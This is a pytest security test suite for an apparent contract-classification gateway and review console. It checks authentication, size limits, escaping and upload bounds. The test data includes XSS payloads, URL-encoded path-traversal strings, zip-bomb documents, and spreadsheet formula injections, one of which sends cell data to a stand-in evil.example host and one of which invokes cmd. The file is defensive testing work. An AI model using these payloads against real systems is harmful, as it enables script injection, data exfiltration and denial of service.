"""Security: the API key on every write, size limits, no path traversal through model names or
versions, no secrets in logs or responses, CORS off unless configured, a non-root image.

Already covered elsewhere, not repeated here: the basic API-key check on feedback and routing
(tests/e2e/test_gateway_real_model.py::test_api_key_guards_write_endpoints_only) and the gateway and
pipeline images' USER and the Kubernetes runAsNonRoot (tests/deploy/test_deploy.py)."""

import json
import logging
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
import yaml
from fastapi.testclient import TestClient
from markupsafe import escape

from benchmarks.upload_memory import docx_bomb, many_parts_docx, shared_stream_pdf
from core.reports import write_lineage
from feedback.tables import PredictionRow, ReviewDocumentRow
from serving.app import create_app
from serving.settings import ServingSettings
from tests.documents.samples import pdf_bytes
from tests.serving.conftest import gateway
from tests.serving.stand_in import GOVERNING as STAND_IN_GOVERNING
from tests.serving.stand_in import StandInBackend

REPO = Path(__file__).resolve().parents[2]
KEY = "sk-live-7f3a9c1e5b2d4f608a1c3e5f7b9d2e4c"
GOVERNING = "This Agreement shall be governed by and construed in accordance with the laws of the State of New York."


@pytest.fixture(scope="module")
def base_dir(pipeline_run, tmp_path_factory) -> Path:
    """lexflow/<v>, plus a second model `secret/<v+7>` beside it that must stay unreachable."""
    root = tmp_path_factory.mktemp("security") / "serving"
    version = int(pipeline_run.model_dir.name)
    shutil.copytree(pipeline_run.model_dir, root / "lexflow" / str(version))
    shutil.copytree(pipeline_run.model_dir, root / "secret" / str(version + 7))
    return root


def _client(base_dir: Path, tmp_path: Path, **settings) -> TestClient:
    config = ServingSettings(
        model_base_dir=base_dir,
        database_url=settings.pop("database_url", f"sqlite:///{tmp_path}/fb.sqlite"),
        export_data_root=tmp_path / "export",
        **settings,
    )
    return TestClient(create_app(config))


@pytest.mark.e2e
def test_every_write_needs_the_key_and_a_refused_write_changes_nothing(base_dir, tmp_path):
    with _client(base_dir, tmp_path, api_key=KEY) as client:
        prediction_id = client.post("/v1/classify", json={"texts": GOVERNING}).json()["predictions"][0]["prediction_id"]
        writes = [
            ("POST", "/v1/feedback", {"prediction_id": prediction_id, "label": "termination"}),
            ("GET", "/v1/feedback", None),  # stored texts are user data: reading them is guarded too
            ("GET", "/v1/reports", None),  # drift reports quote live traffic's tokens
            ("POST", "/v1/feedback/export", None),
            ("PUT", "/v1/routing", {"canary_share": 0.5}),
        ]
        wrong_credentials = [
            {},
            {"X-API-Key": ""},
            {"X-API-Key": "wrong"},
            {"X-API-Key": KEY.upper()},
            {"X-API-Key": KEY[:-1]},
            {"X-API-Key": KEY + " "},
            {"Authorization": f"Basic {KEY}"},
            {"Authorization": "Bearer "},
            {"Authorization": f"Bearer {KEY[:-1]}"},
            {"X-Api-Key-Override": KEY},
        ]
        for method, path, body in writes:
            for headers in wrong_credentials:
                answer = client.request(method, path, json=body, headers=headers)
                assert answer.status_code == 401, (method, path, headers, answer.status_code)
                assert KEY not in answer.text and "API key" in answer.json()["error"]
            # Not in the query string either (it would end up in access logs).
            assert client.request(method, f"{path}?api_key={KEY}", json=body).status_code == 401
        # Nothing happened: no feedback, routing unchanged, no span written.
        assert client.get("/v1/health").json()["feedback"] == 0
        assert client.get("/v1/routing").json()["canary_share"] == 0.0
        assert not (tmp_path / "export").exists()

        # The right key works, in either header (so the 401s above were about the key).
        assert client.post("/v1/feedback", json=writes[0][2], headers={"X-API-Key": KEY}).status_code == 201
        assert (
            client.put(
                "/v1/routing", json={"canary_share": 0.5}, headers={"Authorization": f"Bearer {KEY}"}
            ).status_code
            == 200
        )
        assert client.post("/v1/feedback/export", headers={"X-API-Key": KEY}).json()["rows"] == 1
        # Reads and scoring stay open.
        for path in ("/v1/health", "/v1/routing", "/healthz", "/readyz", "/metrics", "/v1/models/lexflow"):
            assert client.get(path).status_code == 200, path


@pytest.mark.e2e
def test_size_limits_on_texts_batches_and_bodies(base_dir, tmp_path):
    with _client(base_dir, tmp_path, api_key=KEY, max_text_chars=1000, max_batch=8, max_body_bytes=64 * 1024) as client:
        refused = [
            ("/v1/classify", {"texts": "x" * 1001}, "1001 characters exceeds the limit of 1000"),
            ("/v1/classify", {"texts": ["ok"] * 9}, "batch of 9 texts exceeds the limit of 8"),
            ("/v1/models/lexflow:predict", {"instances": ["x" * 1001]}, "exceeds the limit of 1000"),
            ("/v1/models/lexflow:predict", {"inputs": {"text": ["ok"] * 9}}, "batch of 9"),
            ("/v1/feedback", {"text": "x" * 1001, "label": "termination"}, "exceeds the limit of 1000"),
            ("/v1/feedback", {"prediction_id": "a" * 65, "label": "termination"}, "prediction_id"),
        ]
        for path, body, message in refused:
            answer = client.post(path, json=body, headers={"X-API-Key": KEY})
            assert answer.status_code in (413, 422) and message in answer.json()["error"], (path, answer.text)
        huge = b'{"texts": "' + b"a" * (64 * 1024) + b'"}'
        for path in ("/v1/classify", "/v1/feedback", "/v1/models/lexflow:predict"):
            declared = client.post(path, content=huge, headers={"Content-Type": "application/json", "X-API-Key": KEY})
            assert declared.status_code == 413 and "limit of 65536 bytes" in declared.json()["error"], (
                path,
                declared.text,
            )
            # Chunked, without Content-Length: counted as it arrives.
            chunked = client.post(
                path,
                content=(huge[i : i + 4096] for i in range(0, len(huge), 4096)),
                headers={"Content-Type": "application/json", "X-API-Key": KEY},
            )
            assert chunked.status_code == 413, (path, chunked.text)
        # Just under the body limit is fine (the text limit answers, not the body limit).
        under = client.post("/v1/classify", json={"texts": "a" * 1000})
        assert under.status_code == 200
        assert client.get("/v1/health").json()["predictions"] == 1  # only that one was stored


@pytest.mark.e2e
def test_no_path_traversal_through_model_names_or_versions(base_dir, tmp_path, pipeline_run):
    version = int(pipeline_run.model_dir.name)
    body = {"instances": [GOVERNING]}
    with _client(base_dir, tmp_path) as client:
        assert client.post("/v1/models/lexflow:predict", json=body).status_code == 200
        for path in [
            "/v1/models/..%2F..%2Fetc/versions/1:predict",
            "/v1/models/..%2Fsecret:predict",
            "/v1/models/secret:predict",
            f"/v1/models/secret/versions/{version + 7}:predict",
            "/v1/models/lexflow%2F..%2Fsecret:predict",
            "/v1/models/%2E%2E/versions/1:predict",
            "/v1/models/lexflow/versions/..%2F1:predict",
            "/v1/models/lexflow/versions/%2E%2E%2F1:predict",
            f"/v1/models/lexflow/versions/{version + 7}:predict",  # the other model's version number
            f"/v1/models/lexflow/versions/-{version}:predict",
            "/v1/models/lexflow/labels/..%2F..%2Fsecret:predict",
            f"/v1/models/lexflow/versions/{version}%2F..%2F..%2Fsecret:predict",
        ]:
            answer = client.post(path, json=body)
            assert answer.status_code in (404, 422), (path, answer.status_code, answer.text)
            assert isinstance(answer.json()["error"], str)
        for path in [
            "/v1/models/..%2Fsecret",
            "/v1/models/..%2Fsecret/metadata",
            "/v1/models/lexflow/versions/..%2F1/metadata",
            f"/v1/models/lexflow/versions/{version + 7}/metadata",
        ]:
            answer = client.get(path)
            assert answer.status_code in (404, 422), (path, answer.status_code, answer.text)
        for query in ("version=../1", f"version={version + 7}", "version=%2E%2E%2F1", "label=..%2Fsecret"):
            answer = client.post(f"/v1/classify?{query}", json={"texts": GOVERNING})
            assert answer.status_code in (404, 422), (query, answer.text)
        assert client.get("/v1/models/lexflow").json()["model_version_status"][0]["version"] == str(version)
    # The model name a gateway serves is configuration, and cannot name a path either.
    for name in ("../secret", "lexflow/../secret", "..", "a b"):
        with pytest.raises(ValueError):
            ServingSettings(model_name=name)


@pytest.mark.e2e
def test_cors_is_off_by_default_and_only_for_configured_origins(base_dir, tmp_path):
    evil = {"Origin": "https://evil.example"}
    preflight = {
        **evil,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "x-api-key,content-type",
    }
    with _client(base_dir, tmp_path) as client:
        simple = client.post("/v1/classify", json={"texts": GOVERNING}, headers=evil)
        assert simple.status_code == 200
        options = client.options("/v1/feedback", headers=preflight)
        for answer in (simple, options, client.get("/v1/health", headers=evil)):
            assert not any(h.lower().startswith("access-control-") for h in answer.headers), dict(answer.headers)
    with _client(base_dir, tmp_path, cors_origins=["https://app.example"]) as client:
        allowed = client.post("/v1/classify", json={"texts": GOVERNING}, headers={"Origin": "https://app.example"})
        assert allowed.headers.get("access-control-allow-origin") == "https://app.example"
        refused = client.options("/v1/feedback", headers=preflight)
        assert "access-control-allow-origin" not in refused.headers


def _secret_free(text: str, *secrets: str) -> None:
    for secret in secrets:
        assert secret not in text, (
            f"secret {secret[:4]}... appears in: ...{text[max(0, text.find(secret) - 200) : text.find(secret) + 50]}..."
        )


@pytest.mark.e2e
def test_no_secrets_in_logs_or_responses(base_dir, tmp_path, postgres_url, caplog):
    """A PostgreSQL URL with a password (the test server trusts any) and an API key, used for
    real: requests with right and wrong keys, errors, exports. Neither may show up anywhere."""
    password = "pg-Pa55w0rd-do-not-log"
    url = postgres_url.replace("postgres@", f"postgres:{password}@")
    assert password in url
    caplog.set_level(logging.DEBUG)  # everything any library logs, at any level
    with _client(base_dir, tmp_path, api_key=KEY, database_url=url) as client:
        bodies = []
        prediction_id = client.post("/v1/classify", json={"texts": GOVERNING}).json()["predictions"][0]["prediction_id"]
        for headers in ({"X-API-Key": KEY}, {"Authorization": f"Bearer {KEY}"}, {"X-API-Key": KEY + "x"}, {}):
            bodies.append(
                client.post(
                    "/v1/feedback", json={"prediction_id": prediction_id, "label": "termination"}, headers=headers
                ).text
            )
            bodies.append(client.get("/v1/feedback", headers=headers).text)
        bodies.append(
            client.post(
                "/v1/feedback", json={"prediction_id": "0" * 36, "label": "termination"}, headers={"X-API-Key": KEY}
            ).text
        )
        for path in (
            "/v1/health",
            "/v1/routing",
            "/metrics",
            "/openapi.json",
            "/readyz",
            "/v1/models/lexflow/metadata",
        ):
            bodies.append(client.get(path).text)
        assert client.get("/v1/health").json()["feedback"] == 2  # it really used the PostgreSQL store
    _secret_free(caplog.text + "\n".join(bodies), KEY, password)


@pytest.mark.e2e
def test_no_secrets_in_the_served_process_output(base_dir, tmp_path, postgres_url):
    """`lexflow serve` itself, with uvicorn's logs at info and an access log: started with a
    password in the database URL, used with the key, then started against a database that is
    down (the error it prints must not carry the URL's password)."""
    from benchmarks.load_test import free_port, wait_ready

    password = "pg-Pa55w0rd-do-not-log"
    env = {
        **os.environ,
        "LEXFLOW_API_KEY": KEY,
        "LEXFLOW_ACCESS_LOG": "true",
        "LEXFLOW_MODEL_BASE_DIR": str(base_dir),
        "LEXFLOW_DATABASE_URL": postgres_url.replace("postgres@", f"postgres:{password}@"),
    }
    port = free_port()
    log = tmp_path / "serve.log"
    server = _serve(port, env, log)
    try:
        wait_ready(f"http://127.0.0.1:{port}", server)
        base = f"http://127.0.0.1:{port}"
        for headers in ({"X-API-Key": KEY}, {"X-API-Key": "nope"}):
            httpx.get(f"{base}/v1/feedback", headers=headers, timeout=30)
        assert httpx.get(f"{base}/v1/feedback", headers={"X-API-Key": KEY}, timeout=30).status_code == 200
    finally:
        server.terminate()
        server.wait(timeout=60)
    served = log.read_text(errors="replace")
    assert "GET /v1/feedback" in served  # the access log was on: there was something to leak into

    down = {**env, "LEXFLOW_DATABASE_URL": f"postgresql+psycopg://lexflow:{password}@127.0.0.1:{free_port()}/feedback"}
    failed = subprocess.run(
        [sys.executable, "-m", "lexflow.cli", "serve", "--port", str(free_port())],
        cwd=REPO,
        env=down,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert failed.returncode != 0 and re.search(r"connect|refused", failed.stdout + failed.stderr, re.I)
    _secret_free(served + failed.stdout + failed.stderr, KEY, password)


def _serve(port: int, env: dict[str, str], log: Path) -> subprocess.Popen:
    """`lexflow serve` in its own process, its output to `log`."""
    with log.open("wb") as handle:
        return subprocess.Popen(
            [sys.executable, "-m", "lexflow.cli", "serve", "--port", str(port)],
            cwd=REPO,
            env=env,
            stdout=handle,
            stderr=subprocess.STDOUT,
        )


def _final_stage(dockerfile: Path) -> list[tuple[str, str]]:
    text = re.sub(r"\\\n", " ", dockerfile.read_text())
    instructions = [
        (m.group(1).upper(), m.group(2).strip())
        for m in re.finditer(r"^\s*([A-Za-z]+)\s+(.*)$", text, re.M)
        if not m.group(0).lstrip().startswith("#")
    ]
    last_from = max(i for i, (name, _) in enumerate(instructions) if name == "FROM")
    return instructions[last_from:]


def test_every_image_runs_as_non_root_in_its_final_stage():
    """Any Dockerfile in the repository (today: Dockerfile, serving.Dockerfile): the stage that
    becomes the image ends as a numeric non-root user, and nothing after it switches back."""
    dockerfiles = sorted(p for p in REPO.rglob("*Dockerfile*") if ".git" not in p.parts and p.is_file())
    assert {p.name for p in dockerfiles} >= {"Dockerfile", "serving.Dockerfile"}
    for dockerfile in dockerfiles:
        stage = _final_stage(dockerfile)
        users = [args for name, args in stage if name == "USER"]
        assert users, f"{dockerfile.name}: the final stage never sets USER (it would run as root)"
        user = users[-1].split(":")[0]
        assert user.isdigit() and user != "0", f"{dockerfile.name}: USER {users[-1]} (want a numeric non-root uid)"
        after = stage[max(i for i, (name, _) in enumerate(stage) if name == "USER") :]
        assert not any(name == "RUN" and re.search(r"\b(sudo|su)\b", args) for name, args in after), dockerfile.name


# -- The console and the gateway against a hostile client (issue 21), stand-in model: fast ---------
# Each block names the attack of the adversarial test it answers; RELIABILITY.md lists them.

MARKUP = [
    '<script>alert("stored")</script>',
    '"><img src=x onerror=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "'><svg onload=alert(2)>",
    '<form action="https://evil.example/steal"><input name="key"></form>',
    '<base href="https://evil.example/">',
]
EVIL_LABEL = '<img src=x onerror=alert("label")>'
EVIL_NAME = '"><svg onload=alert(3)>.txt'  # a file name may hold anything but slashes and controls
UPLOAD = {"Content-Type": "application/octet-stream"}
REVIEWER = {"X-Reviewer": "reviewer-one"}


def _console(tmp_path, **settings):
    settings.setdefault("allow_unauthenticated_text_listing", True)
    backend = settings.pop("backend", None) or StandInBackend(extra_labels=[EVIL_LABEL])
    return gateway(tmp_path, backend=backend, **settings)


def _upload(client, body, name="contract.txt", headers=None):
    data = body.encode() if isinstance(body, str) else body
    return client.post("/ui/documents", params={"name": name}, content=data, headers={**UPLOAD, **(headers or {})})


def _nothing_stored(client) -> None:
    store = client.app.state.gateway.store
    with store.session() as session:
        assert store.counts()["predictions"] == 0 and session.query(ReviewDocumentRow).count() == 0


def _assert_escaped(page: str, *payloads: str) -> None:
    for payload in payloads:
        assert payload not in page, f"raw markup in the page: {payload}"
        assert str(escape(payload)) in page, f"{payload} not shown (escaped) at all"


def test_stored_markup_is_escaped_on_every_page_and_fragment(tmp_path):
    """Attack: a provision, a document name, a label, a lineage or drift record carrying markup; the
    console's templates (.html.j2) were not autoescaped, so it came back as live markup."""
    contract = "\n\n".join(
        f"{i}. Clause {i}. This Agreement shall be governed by the laws of New York {payload} in full."
        for i, payload in enumerate(MARKUP, start=1)
    )
    reports = tmp_path / "reports"
    write_lineage(reports, 7, {MARKUP[0]: MARKUP[1], "evaluation": {"accuracy": 0.9, MARKUP[2]: MARKUP[3]}})
    verdict = {"drifted": True, "report": "drift-live-1.html", "generated_at": MARKUP[4], "current_rows": 3}
    verdict["measures"] = [{"feature": MARKUP[5], "metric": MARKUP[0], "value": MARKUP[1], "threshold": MARKUP[2]}]
    (reports / "drift-live.json").write_text(json.dumps(verdict))
    push = tmp_path / "models" / "lexflow" / "7" / "assets.extra"
    push.mkdir(parents=True)
    (push / "lexflow_push.json").write_text(json.dumps({"fingerprint": MARKUP[3]}))
    with _console(tmp_path, reports_dir=reports) as client:
        uploaded = _upload(client, contract, name=EVIL_NAME)
        assert uploaded.status_code == 200, uploaded.text
        _assert_escaped(uploaded.text, *MARKUP, EVIL_NAME, EVIL_LABEL)
        document_id = re.search(r'data-document-id="([0-9a-f-]+)"', uploaded.text).group(1)
        fragment = client.get(f"/ui/documents/{document_id}/view")
        _assert_escaped(fragment.text, *MARKUP, EVIL_NAME, EVIL_LABEL)
        for payload in MARKUP:  # the queue quotes texts anyone may classify
            client.post("/v1/classify", json={"texts": f"An unclear clause {payload}"})
        seen = set()
        for i in range(len(MARKUP)):
            item = client.post("/ui/queue/next", headers={"X-Reviewer": f"reviewer-{i:04d}"})
            assert item.status_code == 200
            assert not any(p in item.text for p in (*MARKUP, EVIL_LABEL)), item.text
            _assert_escaped(item.text, EVIL_LABEL)
            seen.update(p for p in MARKUP if str(escape(p)) in item.text)
        assert seen == set(MARKUP)  # every payload was on a queue page, escaped
        models = client.get("/ui/models")
        _assert_escaped(models.text, *MARKUP)
        pages = [client.get(p) for p in ("/ui/review", "/ui/queue", f"/ui/documents/{document_id}")]
        for answer in [uploaded, fragment, item, models, *pages]:
            csp = answer.headers["content-security-policy"]
            assert "form-action 'self'" in csp and "base-uri 'none'" in csp and "default-src 'self'" in csp
            assert answer.headers["x-content-type-options"] == "nosniff"


def test_every_console_template_is_autoescaped():
    """The environment escapes whatever the template is called: no page can opt out by its name,
    and no template marks data safe."""
    from serving.ui.templating import HERE, environment

    names = environment.list_templates()
    assert names and all(n.endswith(".html.j2") for n in names)
    for name in [*names, "anything.txt", "x.svg"]:
        assert environment.autoescape(name), name
    for path in (HERE / "templates").iterdir():
        assert "|safe" not in path.read_text().replace(" ", "") and "autoescape false" not in path.read_text()


def test_the_drift_report_escapes_what_it_quotes(monkeypatch):
    """`lexflow drift` renders names, notes and the raw result of live traffic into a self-contained
    HTML page (components/drift_check, its own Jinja environment): escaped as well."""
    from components.drift_check import report
    from components.drift_check.drift import DriftResult, Sample
    from components.drift_check.report import render_report

    for plot in ("label_plot", "length_plot", "token_shift_plot", "unseen_plot"):
        monkeypatch.setattr(report, plot, lambda *args: "")  # the text is what is escaped, not the PNGs

    sample = Sample(texts=[f"governed by law {p}" for p in MARKUP], labels=["a"] * len(MARKUP))
    result = DriftResult(current_rows=len(MARKUP), baseline_rows=len(MARKUP), note=MARKUP[1])
    page = render_report(result, sample, sample, MARKUP[0], MARKUP[2], MARKUP[3], notes=[MARKUP[4]])
    _assert_escaped(page, MARKUP[0], MARKUP[2], MARKUP[3], MARKUP[4])
    assert MARKUP[1] not in page and "<script" not in page.lower()


def test_csv_exports_neutralise_formula_cells(tmp_path):
    """Attack: a provision like `=HYPERLINK("https://evil.example", "click")`, which a spreadsheet
    opening the export would run."""
    from serving.ui.documents import csv_cell

    formulas = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    contract = "\n\n".join(f"{f} governs the laws of this Agreement in full." for f in formulas)
    with _console(tmp_path) as client:
        document_id = re.search(r'data-document-id="([0-9a-f-]+)"', _upload(client, contract).text).group(1)
        exported = client.get(f"/ui/documents/{document_id}/export.csv").text
        json_export = client.get(f"/ui/documents/{document_id}/export.json").json()
    rows = list(__import__("csv").DictReader(exported.splitlines()))
    assert len(rows) == len(formulas)
    for row, formula in zip(rows, formulas, strict=True):
        assert row["text"].startswith("'" + formula[:5]), row["text"]
    assert all(p["text"].startswith(f) for p, f in zip(json_export["provisions"], formulas, strict=True))  # data
    for cell in ("\tx", "\rx", "=1", "+1", "-1", "@x"):
        assert csv_cell(cell) == "'" + cell
    assert csv_cell("plain") == "plain" and csv_cell(0.7) == 0.7 and csv_cell(None) is None


# -- uploads are bounded before they are parsed ------------------------------------------------------


def test_a_docx_bomb_is_refused_before_python_docx_reads_it(tmp_path, monkeypatch):
    """Attack: a 408 KB .docx holding 400 MB of XML (the gateway went from 0.8 to 1.48 GB). Here a
    40 MB one, refused from the zip's directory (benchmarks/upload_memory.py measures the 400 MB
    one against a running gateway: RELIABILITY.md)."""
    import docx

    def never(*args, **kwargs):
        raise AssertionError("python-docx was asked to read a zip bomb")

    bomb, dense_bomb = docx_bomb(40 * 2**20), docx_bomb(3 * 2**20)  # the second: under the total, over the ratio
    crowded = many_parts_docx(20_000)
    assert len(bomb) < 200_000
    monkeypatch.setattr(docx, "Document", never)
    with _console(tmp_path) as client:
        answer = _upload(client, bomb, name="bomb.docx")
        assert answer.status_code == 413 and "unpacks to more than" in answer.json()["error"], answer.text
        dense = _upload(client, dense_bomb, name="dense.docx")
        assert dense.status_code == 413 and "zip bomb" in dense.json()["error"], dense.text
        parts = _upload(client, crowded, name="crowded.docx")  # refused from the end record, before the directory
        assert parts.status_code == 413 and "20000 parts" in parts.json()["error"], parts.text
        _nothing_stored(client)


def test_a_docx_that_lies_about_its_sizes_inflates_only_what_it_declares(tmp_path, monkeypatch):
    """Attack: the same bomb with a directory that claims a 100 KB part (CRC to match): zipfile would
    inflate all 40 MB in one call. python-docx gets a copy holding the declared 100 KB."""
    import docx

    read, liar = [], docx_bomb(40 * 2**20, declared_bytes=100_000)
    original = docx.Document
    monkeypatch.setattr(docx, "Document", lambda stream: (read.append(len(stream.getvalue())), original(stream))[1])
    with _console(tmp_path) as client:
        answer = _upload(client, liar, name="liar.docx")
        assert answer.status_code == 422 and "not a readable .docx" in answer.json()["error"], answer.text
        _nothing_stored(client)
    assert read and max(read) < 2 * 2**20  # the package as declared (~0.9 MB with its styles), not 40 MB


def test_page_provision_and_content_caps_answer_413_and_store_nothing(tmp_path, monkeypatch):
    """Attack: a 5,000-page PDF stored 5,000 predictions; one 2.4 MB .txt stored 20,000; a PDF whose
    40 pages share one 8 KB content stream cost ~70 s of CPU. Each is refused before its pages are
    parsed or anything is classified."""
    import pypdf

    parsed = []
    original = pypdf.PageObject.extract_text
    monkeypatch.setattr(pypdf.PageObject, "extract_text", lambda self, *a, **k: (parsed.append(1), original(self))[1])
    limits = {"max_document_pages": 5, "max_document_provisions": 10, "max_document_pdf_content_bytes": 2**20}
    many = "\n\n".join(f"{i}. Clause {i}. This Agreement shall be governed by the laws of Delaware." for i in range(30))
    with _console(tmp_path, **limits) as client:
        cases = [
            ("long.pdf", pdf_bytes([[STAND_IN_GOVERNING]] * 6), "6 pages exceeds the limit of 5"),
            ("shared.pdf", shared_stream_pdf(4, 7_000), "more than the limit of 1048576"),  # 4 x 300 KB
            ("many.txt", many.encode(), "30 provisions exceeds the limit of 10"),
            # More text than 10 provisions of 2,000 characters hold: refused from page 2, unsplit.
            ("wordy.pdf", pdf_bytes([["word " * 3000]] * 4), "characters of text in pages 1-2, more than the limit"),
        ]
        for name, data, message in cases:
            answer = _upload(client, data, name=name)
            assert answer.status_code == 413 and message in answer.json()["error"], (name, answer.text)
        assert len(parsed) == 2 and client.app.state.gateway.backend.calls == 0  # wordy.pdf's first two pages
        _nothing_stored(client)
    with _console(tmp_path / "small", max_document_bytes=1024) as client:
        answer = _upload(client, b"x" * 1025, name="big.txt")
        assert answer.status_code == 413 and "limit of 1024 bytes" in answer.json()["error"]


# -- work stops when the client hangs up ------------------------------------------------------------


class _HangsUp:
    """An ASGI client that sends its body, then hangs up once `gone` is set (as a browser tab that is
    closed mid-upload); until then the server sees a connection that is still open."""

    def __init__(self, body: bytes):
        self.body, self.gone, self.sent = body, False, []

    async def receive(self):
        import anyio

        if self.body is not None:
            body, self.body = self.body, None
            return {"type": "http.request", "body": body, "more_body": False}
        if self.gone:
            return {"type": "http.disconnect"}
        await anyio.sleep(3600)  # cancelled at once by Request.is_disconnected's check

    async def send(self, message):
        self.sent.append(message)

    def status(self) -> int:
        return next(m["status"] for m in self.sent if m["type"] == "http.response.start")


def _call(client, path: str, query: str, connection: _HangsUp) -> None:
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"content-type", b"application/octet-stream")],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    client.portal.call(client.app, scope, connection.receive, connection.send)


class _CountingBackend(StandInBackend):
    """Hangs the client up while the n-th batch is scored."""

    def __init__(self):
        super().__init__()
        self.connection, self.hang_up_at = None, None

    async def predict_async(self, texts, version=None):
        if self.calls + 1 == self.hang_up_at:
            self.connection.gone = True
        return await super().predict_async(texts, version)


def test_work_stops_and_nothing_is_stored_when_the_client_hangs_up(tmp_path, monkeypatch):
    """Attack: the client hangs up; the gateway went on parsing and classifying (and stored it)."""
    import pypdf

    backend = _CountingBackend()
    contract = "\n\n".join(
        f"{i}. Clause {i}. This Agreement shall be governed by the laws of Delaware." for i in range(40)
    )
    with _console(tmp_path, backend=backend, max_batch=4) as client:
        backend.connection, backend.hang_up_at = _HangsUp(contract.encode()), 3  # of 10 batches
        _call(client, "/ui/documents", "name=contract.txt", backend.connection)
        assert backend.connection.status() == 499 and backend.calls == 3
        _nothing_stored(client)

        parsed, pdf = [], _HangsUp(pdf_bytes([[STAND_IN_GOVERNING]] * 20))
        original = pypdf.PageObject.extract_text

        def extract(page, *args, **kwargs):
            parsed.append(1)
            pdf.gone = len(parsed) == 3  # hangs up while the third page is read
            return original(page)

        monkeypatch.setattr(pypdf.PageObject, "extract_text", extract)
        _call(client, "/ui/documents", "name=contract.pdf", pdf)
        assert pdf.status() == 499 and len(parsed) == 3  # of 20 pages
        _nothing_stored(client)


# -- client identity comes from LEXFLOW_CLIENT_IP_HEADER only ----------------------------------------


def test_a_spoofed_forwarded_for_gets_no_new_quota_against_lexflow_serve(tmp_path):
    """Attack: `lexflow serve` kept uvicorn's proxy headers (trusting 127.0.0.1), so a fresh
    X-Forwarded-For per request passed an exhausted quota (40 of 40). The real command, no model."""
    import time

    from benchmarks.load_test import free_port

    port, log = free_port(), tmp_path / "serve.log"
    env = {
        **os.environ,
        "LEXFLOW_MODEL_BASE_DIR": str(tmp_path / "models"),
        "LEXFLOW_DATABASE_URL": f"sqlite:///{tmp_path}/fb.sqlite",
        "LEXFLOW_QUOTA_REQUESTS_PER_MINUTE": "3",
    }
    env.pop("LEXFLOW_API_KEY", None)
    server = _serve(port, env, log)
    try:
        while True:  # no model: live (/healthz), never ready
            assert server.poll() is None, log.read_text()
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.2)
        statuses = [
            httpx.get(f"http://127.0.0.1:{port}/v1/routing", headers={"X-Forwarded-For": f"198.51.100.{i}"}).status_code
            for i in range(8)
        ]
    finally:
        server.terminate()
        server.wait(timeout=60)
    assert statuses == [200] * 3 + [429] * 5, statuses


def test_every_gateway_command_turns_uvicorn_proxy_headers_off(monkeypatch, tmp_path):
    """`lexflow serve` and every container command that starts uvicorn (images, compose, Kubernetes)."""
    import uvicorn
    from typer.testing import CliRunner

    from lexflow.cli import app

    started = {}
    monkeypatch.setattr(uvicorn, "run", lambda application, **options: started.update(options))
    monkeypatch.setenv("LEXFLOW_DATABASE_URL", f"sqlite:///{tmp_path}/fb.sqlite")
    monkeypatch.setenv("LEXFLOW_MODEL_BASE_DIR", str(tmp_path / "models"))
    assert CliRunner().invoke(app, ["serve"]).exit_code == 0 and started["proxy_headers"] is False

    commands = []
    for dockerfile in REPO.glob("*Dockerfile"):
        commands += [json.loads(args) for name, args in _final_stage(dockerfile) if name in ("CMD", "ENTRYPOINT")]
    compose = yaml.safe_load((REPO / "deploy/compose.yaml").read_text())
    commands += [s.get("command") for s in compose["services"].values() if s.get("command")]
    for manifest in (REPO / "deploy/k8s").rglob("*.yaml"):
        for document in yaml.safe_load_all(manifest.read_text()):
            spec = (document or {}).get("spec", {}).get("template", {}).get("spec", {})
            commands += [c.get("command", []) + c.get("args", []) for c in spec.get("containers", [])]
    uvicorns = [c for c in commands if isinstance(c, list) and any("uvicorn" in str(part) for part in c)]
    assert len(uvicorns) >= 3, commands  # serving.Dockerfile, compose's gateways, the k8s Deployment
    for command in uvicorns:
        assert "--no-proxy-headers" in command, command


def test_identity_in_the_audit_and_the_quota_ignores_forwarded_headers_unless_configured(tmp_path):
    with gateway(tmp_path, quota_requests_per_minute=2, backend=StandInBackend(versions=(7, 9))) as client:
        spoofed = [client.get("/v1/health", headers={"X-Forwarded-For": f"203.0.113.{i}"}) for i in range(3)]
        assert [a.status_code for a in spoofed] == [200, 200, 429]
    agent = "[link=https://evil.example]click[/link] \u00e9\u00e9 " + "A" * 500
    with gateway(tmp_path / "audit", backend=StandInBackend(versions=(7, 9))) as client:
        client.put(
            "/v1/routing",
            json={"shadow": 7},
            headers={"X-Forwarded-For": "203.0.113.9", "User-Agent": agent.encode("latin-1")},
        )
        (change,) = client.get("/v1/routing/history").json()["changes"]
        assert "203.0.113.9" not in change["client"] and change["client"].startswith("http testclient ")
        assert "[" not in change["client"].split("(", 1)[1] and "\u00e9" not in change["client"]
        assert len(change["client"]) < 140 and change["client"].endswith("...)")
    with gateway(
        tmp_path / "proxied", client_ip_header="X-Forwarded-For", backend=StandInBackend(versions=(7, 9))
    ) as client:
        client.put("/v1/routing", json={"shadow": 7}, headers={"X-Forwarded-For": "<b>not-an-address</b>, 10.0.0.1"})
        client.put("/v1/routing", json={"shadow": 9}, headers={"X-Forwarded-For": "2001:db8::1, 10.0.0.1"})
        clients = [c["client"] for c in client.get("/v1/routing/history").json()["changes"]]
        assert clients[0].startswith("http 2001:db8::1 ") and clients[1].startswith("http invalid-address ")


# -- writes need the key (or an explicit opt-in), console writes their own origin --------------------

WRITES = [
    ("POST", "/v1/feedback", {"json": {"text": "Governed by the laws of Delaware.", "label": "governing_law"}}),
    ("POST", "/v1/feedback/export", {}),
    ("PUT", "/v1/routing", {"json": {"canary_share": 0.5}}),
    ("POST", "/ui/documents?name=a.txt", {"content": b"1. Governed by the laws of Delaware.", "headers": UPLOAD}),
    ("POST", "/ui/feedback", {"json": {"prediction_id": "x", "label": "governing_law"}}),
    ("POST", "/ui/queue/next", {"headers": REVIEWER}),
    ("POST", "/ui/queue/x/answer", {"json": {"label": "governing_law"}, "headers": REVIEWER}),
    ("POST", "/ui/queue/x/skip", {"headers": REVIEWER}),
]


